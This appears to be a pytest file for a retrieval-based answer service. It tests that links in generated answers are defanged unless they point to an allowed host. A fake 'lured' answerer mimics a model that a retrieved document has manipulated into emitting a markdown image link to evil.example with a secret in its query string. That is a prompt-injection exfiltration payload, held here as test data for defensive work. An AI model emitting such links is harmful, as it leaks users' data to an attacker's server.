"""Links in answers, wherever an answer leaves."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from chalicelib.contracts.asking import Answer, DoneEvent, QueryRequest, TokenEvent
from chalicelib.domain.identifiers import RunId
from chalicelib.domain.indexes import Recipe
from chalicelib.domain.releases import EXTRACTIVE, ClaimPolicy, ClaimSettings, GenerationSettings, ReleaseConfig
from chalicelib.domain.runs import Passage
from chalicelib.errors import Unavailable
from fargate.generation.drafts import Draft, Statement
from fargate.generation.service import GenerationService
from tests.fakes.knowledge import INDEX, Knowledge, knowledge, reader

SAID = "See ![it](https://evil.example/?q=secret) or [the guide](https://docs.example.com/guide)."
SAFE = "See ![it] (https[:]//evil[.]example/?q=secret) or [the guide](https://docs.example.com/guide)."


@dataclass
class Lured:
    """Says what a document told it to say, a letter at a time; *breaks* before it is through."""

    description = "is lured"
    breaks: bool = False

    async def write(
        self, question: str, passages: Sequence[Passage], config: ReleaseConfig
    ) -> AsyncGenerator[str | Draft, None]:
        """See `Answerer.write`."""
        for letter in SAID:
            yield letter
        if self.breaks:
            raise Unavailable("The model went away.")
        yield Draft(SAID, statements=[Statement(SAID)])


@pytest.fixture
def known(tmp_path: Path) -> Iterator[Knowledge]:
    with knowledge(tmp_path) as opened:
        opened.add("See the guide.")
        yield opened


def service(known: Knowledge, *, breaks: bool = False) -> GenerationService:
    return known.generation(
        answerers={EXTRACTIVE: Lured(breaks)},
        link_hosts=lambda tenant: ("docs.example.com",) if tenant == known.tenant else (),
    )


def ask(known: Knowledge) -> Answer:
    return asyncio.run(service(known).answer(reader(), QueryRequest(question="Where is the guide?")))


def test_an_answer_its_claims_and_its_run_lead_nowhere_else(known: Knowledge) -> None:
    """What is allowed stays a link."""
    answer = ask(known)
    assert answer.answer == SAFE
    assert [claim.text for claim in answer.claims] == [SAFE]
    assert known.runs.get(known.tenant, RunId(answer.run_id)).answer == SAFE


@pytest.mark.parametrize("policy", [ClaimPolicy.MARK, ClaimPolicy.DROP])
def test_a_stream_leads_nowhere_else(known: Knowledge, policy: ClaimPolicy) -> None:
    """Though it comes letter by letter; its pieces are the answer."""
    config = ReleaseConfig(INDEX, 1, Recipe(), answer=GenerationSettings(claims=ClaimSettings(policy=policy)))
    known.release(config)

    async def collect() -> list[object]:
        asked = QueryRequest(question="Where is the guide?")
        return [event async for event in service(known).stream(reader(), asked)]

    events = asyncio.run(collect())
    last = events[-1]
    assert isinstance(last, DoneEvent)
    assert "".join(event.text for event in events if isinstance(event, TokenEvent)) == last.answer.answer
    assert "https://evil" not in last.answer.answer


def test_what_broke_off_leads_nowhere_else_either(known: Knowledge) -> None:
    """The run keeps what was said until then."""
    with pytest.raises(Unavailable):
        asyncio.run(service(known, breaks=True).answer(reader(), QueryRequest(question="Where is the guide?")))
    (run,) = known.runs.list(known.tenant, limit=10, cursor=None)[0]
    assert run.answer is not None
    assert SAFE.startswith(run.answer)
    assert "https[:]//evil[.]example" in run.answer


def test_an_answer_that_is_given_again_is_given_as_it_was(known: Knowledge) -> None:
    """What was made harmless once is not changed a second time."""
    known.release(ReleaseConfig(INDEX, 1, Recipe(), answer=GenerationSettings(cache_ttl_s=60)))
    first, again = ask(known), ask(known)
    assert (again.repeats, again.answer) == (first.run_id, SAFE)
